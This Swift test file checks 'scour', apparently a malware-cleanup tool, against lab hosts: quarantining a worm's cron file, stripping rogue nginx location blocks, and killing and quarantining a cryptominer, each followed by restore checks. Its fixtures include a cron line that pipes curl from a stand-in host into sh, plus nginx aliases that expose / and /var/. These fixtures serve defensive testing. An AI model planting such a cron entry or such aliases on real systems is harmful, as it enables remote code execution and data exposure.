import Foundation
import ScourEngine
import ScourLab
import TestSupport
import Testing

/// Steps see each other, through the real `scour` on a lab host: a cron file quarantined and
/// then lines removed over its folder — the plan shows the later step without the quarantined
/// file, apply acts on exactly that, `restore` puts every byte back; a file changed between
/// plan and apply drifts only the step that reads it; an nginx site stripped of the worm's
/// locations and then edited again — the second diff against the first's output; and a miner
/// killed, then its executable quarantined and restored.
@Suite(.needs(.lab))
struct StepsSeeEachOtherOnLabTests {
    static let worm = "/etc/cron.d/apache2-update"
    static let other = "/etc/cron.d/logcheck"
    static let wormCron = "* * * * * root curl -s http://pool.invalid/x | sh\n"
    static let otherCron = "MAILTO=root\n*/5 * * * * root /opt/x --pool pool.invalid\n@reboot root /usr/sbin/logcheck\n"
    static let describe = "sha256sum \(worm) \(other) 2>&1; stat -c '%a %U %G %Y' \(worm) \(other) 2>&1"

    static let playbook = """
        playbook "chained" {
          platform = linux
          remove_files "worm_cron" {
            paths = ['\(worm)']
          }
          remove_lines "pool_lines" {
            paths       = ['/etc/cron.d/*']
            max_matches = 50
            pattern     = 'pool\\.invalid'
          }
        }
        """

    /// The nimda-nginx scenario's site: the worm's three location blocks, two of them with the
    /// `autoindex on;` its own `/downloads/` block has too.
    static let site = "/etc/nginx/sites-enabled/default"
    static let wormLocations = [
        "\tlocation /c {\n\t\talias /;\n\t\tautoindex on;\n\t}\n",
        "\tlocation ^~ /d/ {\n\t\talias /var/;\n\t\tautoindex on;\n\t}\n",
        "\tlocation ~ \\.eml$ {\n\t\tdefault_type message/rfc822;\n\t}\n",
    ]
    static let autoindex = "\t\tautoindex on;\n"
    static let siteEdits = """
        playbook "site_edited_twice" {
          platform = linux
          strip_mappings "worm_locations" {
            server   = nginx
            config   = '\(site)'
            aliases  = ["/c", "/d"]
            handlers = [".eml"]
          }
          remove_lines "autoindex" {
            paths   = ['\(site)']
            pattern = 'autoindex on;'
          }
        }
        """

    static let miner = "/opt/.kworker/kworkerds"
    static let killThenQuarantine = """
        playbook "kill_then_quarantine" {
          platform = linux
          kill_process "miner" {
            name       = "kworkerds"
            executable = "\(miner)"
          }
          remove_files "miner_executable" {
            paths = ['\(miner)']
          }
        }
        """

    private func scour(_ lab: LabFixture, _ arguments: [String]) async throws -> ScourCLI.Result {
        try await ScourCLI.run(arguments, environment: ["SCOUR_RUNS_DIR": lab.directory + "/runs"])
    }

    /// Each step's status in `scour apply --format json`'s answer for its only host.
    private func stepStatuses(_ applied: ScourCLI.Result) throws -> [String?] {
        let hosts = try #require(try JSONSerialization.jsonObject(with: Data(applied.stdout.utf8)) as? [String: Any])["hosts"] as? [[String: Any]]
        return try #require(hosts?.first?["steps"] as? [[String: Any]]).map { $0["status"] as? String }
    }

    private func plant(_ lab: LabFixture, _ host: LabState.Host) async throws {
        let planted = try await lab.ssh(host, """
            set -e
            printf '%s' '\(Data(Self.wormCron.utf8).base64EncodedString())' | base64 -d > \(Self.worm)
            printf '%s' '\(Data(Self.otherCron.utf8).base64EncodedString())' | base64 -d > \(Self.other)
            chmod 644 \(Self.worm) \(Self.other); touch -m -d @1000000000 \(Self.worm) \(Self.other)
            """)
        #expect(planted.status == 0, "\(planted.stderr)")
    }

    @Test func a_quarantined_file_is_not_edited_by_the_step_over_its_folder_and_restore_puts_all_back() async throws {
        let lab = try await LabFixture(hosts: 1, scenario: "clean")
        let host = lab.state.hosts[0]
        try await plant(lab, host)
        let before = try await lab.ssh(host, Self.describe).stdout
        let playbook = "\(lab.directory)/chained.scour"
        try Self.playbook.write(toFile: playbook, atomically: true, encoding: .utf8)
        let common = ["-i", lab.inventory, "--known-hosts", lab.knownHosts]

        let plan = try await scour(lab, ["plan", playbook] + common + ["--format", "json"])
        #expect(plan.status == 0, "\(plan.stderr)")
        let steps = try #require(try PlanDocument.decode(Data(plan.stdout.utf8)).hosts.first?.steps)
        #expect(steps.map(\.action) == [.change, .change])
        #expect(steps[1].changes.map(\.path) == [Self.other], "the quarantined file is not edited: \(steps[1].changes)")

        let applied = try await scour(lab, ["apply", playbook] + common + ["--no-progress"])
        #expect(applied.status == 0, "\(applied.stdout)\(applied.stderr)")
        #expect(try await lab.ssh(host, "test -e \(Self.worm) || echo gone").stdout == "gone\n")
        #expect(try await lab.ssh(host, "cat \(Self.other)").stdout == "MAILTO=root\n@reboot root /usr/sbin/logcheck\n")

        let run = try #require(try FileManager.default.contentsOfDirectory(atPath: lab.directory + "/runs").sorted().last)
        let dryRun = try await scour(lab, ["restore", run, "--dry-run"])
        #expect(dryRun.status == 0, "\(dryRun.stdout)\(dryRun.stderr)")
        #expect(dryRun.stdout.contains("would restore 1 file and 1 config; 0 problems") && !dryRun.stdout.contains("tampering"), "\(dryRun.stdout)")
        let restored = try await scour(lab, ["restore", run])
        #expect(restored.status == 0, "\(restored.stdout)\(restored.stderr)")
        #expect(try await lab.ssh(host, Self.describe).stdout == before, "every byte back, with mode, owner and mtime")
    }

    @Test func a_file_changed_between_plan_and_apply_drifts_only_the_step_that_reads_it() async throws {
        let lab = try await LabFixture(hosts: 1, scenario: "clean")
        let host = lab.state.hosts[0]
        try await plant(lab, host)
        let playbook = "\(lab.directory)/chained.scour"
        try Self.playbook.write(toFile: playbook, atomically: true, encoding: .utf8)
        let common = ["-i", lab.inventory, "--known-hosts", lab.knownHosts]
        let saved = "\(lab.directory)/plan.json"
        let plan = try await scour(lab, ["plan", playbook] + common + ["-o", saved])
        #expect(plan.status == 0, "\(plan.stdout)\(plan.stderr)")
        // The other cron file gains a line after the plan; the worm's file is as planned.
        _ = try await lab.ssh(host, "echo '1 1 * * * root /opt/y pool.invalid' >> \(Self.other)")

        let applied = try await scour(lab, ["apply", saved] + common + ["--no-progress", "--format", "json"])
        let hosts = try #require(try JSONSerialization.jsonObject(with: Data(applied.stdout.utf8)) as? [String: Any])["hosts"] as? [[String: Any]]
        let outcome = try #require(hosts?.first)
        let steps = try #require(outcome["steps"] as? [[String: Any]])
        #expect(outcome["status"] as? String == "drifted", "\(applied.stdout)")
        #expect(steps.map { $0["status"] as? String } == ["changed", "drifted"], "\(steps)")
        let detail = steps[1]["detail"] as? String ?? ""
        #expect(detail.contains("files matching") && detail.contains(Self.other), "the drift names the file: \(detail)")
        #expect(try await lab.ssh(host, "test -e \(Self.worm) || echo gone").stdout == "gone\n", "the other step acted")
        #expect(try await lab.ssh(host, "grep -c pool.invalid \(Self.other)").stdout == "2\n", "the drifted step did not act")
    }

    @Test func a_second_edit_of_a_config_is_planned_on_the_first_ones_output_and_restore_puts_the_original_back() async throws {
        let lab = try await LabFixture(hosts: 1, scenario: "nimda-nginx", extraArguments: ["--infected-share", "1"])
        let host = lab.state.hosts[0]
        let original = try await lab.ssh(host, "cat \(Self.site)").stdout
        let metadata = "stat -c '%a %U %G %Y' \(Self.site)"
        let originalMetadata = try await lab.ssh(host, metadata).stdout
        // The end state: the worm's blocks gone whole, then the one `autoindex on;` left (/downloads/).
        var expected = original
        for block in Self.wormLocations {
            #expect(expected.components(separatedBy: block).count == 2, "the scenario's site holds \(block) once")
            expected = expected.replacingOccurrences(of: block, with: "")
        }
        #expect(expected.components(separatedBy: Self.autoindex).count == 2, "one autoindex besides the worm's")
        expected = expected.replacingOccurrences(of: Self.autoindex, with: "")
        let playbook = "\(lab.directory)/site.scour"
        try Self.siteEdits.write(toFile: playbook, atomically: true, encoding: .utf8)
        let common = ["-i", lab.inventory, "--known-hosts", lab.knownHosts]

        // Plan: both edits of the one file; the second diffed against the first's output.
        let plan = try await scour(lab, ["plan", playbook] + common + ["--format", "json"])
        #expect(plan.status == 0, "\(plan.stdout)\(plan.stderr)")
        let steps = try #require(try PlanDocument.decode(Data(plan.stdout.utf8)).hosts.first?.steps)
        #expect(steps.map(\.action) == [.change, .change], "\(steps.map(\.reason))")
        #expect(steps.map { $0.changes.map(\.path) } == [[Self.site], [Self.site]])
        let stripped = try #require(steps[0].changes.first?.diff)
        let edited = try #require(steps[1].changes.first?.diff)
        func removed(_ diff: String) -> [String] {
            diff.components(separatedBy: "\n").filter { $0.hasPrefix("-") && !$0.hasPrefix("---") }
        }
        #expect(removed(stripped) == Self.wormLocations.flatMap { $0.split(separator: "\n").map { "-" + $0 } },
                "the first edit removes the worm's blocks whole: \(stripped)")
        #expect(removed(edited) == ["-\t\tautoindex on;"], "only the autoindex the first edit leaves: \(edited)")
        for line in ["alias /;", "alias /var/;", "location /c", "location ^~ /d/", "message/rfc822"] {
            #expect(!edited.contains(line), "the second diff does not see what the first removes (\(line)): \(edited)")
        }

        // Apply: each edit checked right before it acts finds what the plan predicted; exactly
        // the end state of both.
        let applied = try await scour(lab, ["apply", playbook] + common + ["--no-progress", "--format", "json"])
        #expect(applied.status == 0, "\(applied.stdout)\(applied.stderr)")
        #expect(try stepStatuses(applied) == ["changed", "changed"], "\(applied.stdout)")
        #expect(try await lab.ssh(host, "cat \(Self.site)").stdout == expected, "both edits, nothing else")

        // Restore: the original, byte for byte, with its mode, owner and mtime.
        let run = try #require(try FileManager.default.contentsOfDirectory(atPath: lab.directory + "/runs").sorted().last)
        let dryRun = try await scour(lab, ["restore", run, "--dry-run"])
        #expect(dryRun.status == 0, "\(dryRun.stdout)\(dryRun.stderr)")
        #expect(dryRun.stdout.contains("would restore 0 files and 1 config; 0 problems") && !dryRun.stdout.contains("tampering"), "\(dryRun.stdout)")
        #expect(try await lab.ssh(host, "cat \(Self.site)").stdout == expected, "a dry run changes nothing")
        let restored = try await scour(lab, ["restore", run])
        #expect(restored.status == 0, "\(restored.stdout)\(restored.stderr)")
        #expect(try await lab.ssh(host, "cat \(Self.site)").stdout == original, "every byte back")
        #expect(try await lab.ssh(host, metadata).stdout == originalMetadata, "mode, owner and mtime back")
    }

    @Test func a_killed_miners_executable_is_quarantined_and_restore_puts_it_back() async throws {
        let lab = try await LabFixture(hosts: 1, scenario: "cryptominer", extraArguments: ["--infected-share", "1"])
        let host = lab.state.hosts[0]
        let pid = try #require(Int32(try await lab.ssh(host, "pgrep -x kworkerds").stdout.trimmingCharacters(in: .whitespacesAndNewlines)))
        let describe = "sha256sum \(Self.miner); stat -c '%a %U %G %Y' \(Self.miner)"
        let before = try await lab.ssh(host, describe).stdout
        let sha256 = String(before.prefix(64))
        let playbook = "\(lab.directory)/miner.scour"
        try Self.killThenQuarantine.write(toFile: playbook, atomically: true, encoding: .utf8)
        let common = ["-i", lab.inventory, "--known-hosts", lab.knownHosts]

        // Plan: the process the kill stops, then its executable into quarantine.
        let plan = try await scour(lab, ["plan", playbook] + common + ["--format", "json"])
        #expect(plan.status == 0, "\(plan.stdout)\(plan.stderr)")
        let steps = try #require(try PlanDocument.decode(Data(plan.stdout.utf8)).hosts.first?.steps)
        #expect(steps.map(\.action) == [.change, .change], "\(steps.map(\.reason))")
        let killed = steps[0].changes.map { "\($0.kind) \($0.pid ?? -1) \($0.path ?? "") \($0.sha256 ?? "")" }
        #expect(killed == ["killProcess \(pid) \(Self.miner) \(sha256)"], "\(steps[0].changes)")
        let quarantined = steps[1].changes.map { "\($0.kind) \($0.path ?? "") \($0.sha256 ?? "")" }
        #expect(quarantined == ["quarantine \(Self.miner) \(sha256)"], "\(steps[1].changes)")

        // Apply: the miner gone, its executable in the run's quarantine with the same bytes.
        let applied = try await scour(lab, ["apply", playbook] + common + ["--no-progress", "--format", "json"])
        #expect(applied.status == 0, "\(applied.stdout)\(applied.stderr)")
        #expect(try stepStatuses(applied) == ["changed", "changed"], "\(applied.stdout)")
        let run = try #require(try FileManager.default.contentsOfDirectory(atPath: lab.directory + "/runs").sorted().last)
        let state = try await lab.ssh(host, """
            pgrep -x kworkerds; test -e \(Self.miner) || echo gone
            find /var/lib/scour/quarantine/\(run) -type f ! -name manifest.jsonl -exec sha256sum {} + | cut -c1-64
            """)
        #expect(state.stdout == "gone\n\(sha256)\n", "no miner; its executable only in quarantine: \(state.stdout)\(state.stderr)")

        // Restore: the executable back with the same SHA-256 (and mode, owner, mtime); the miner stays stopped.
        let dryRun = try await scour(lab, ["restore", run, "--dry-run"])
        #expect(dryRun.status == 0, "\(dryRun.stdout)\(dryRun.stderr)")
        #expect(dryRun.stdout.contains("would restore 1 file; 0 problems") && !dryRun.stdout.contains("tampering"), "\(dryRun.stdout)")
        let restored = try await scour(lab, ["restore", run])
        #expect(restored.status == 0, "\(restored.stdout)\(restored.stderr)")
        #expect(try await lab.ssh(host, describe).stdout == before, "the same bytes, mode, owner and mtime")
        #expect(try await lab.ssh(host, "pgrep -x kworkerds").stdout.isEmpty, "killing cannot be undone")
    }
}
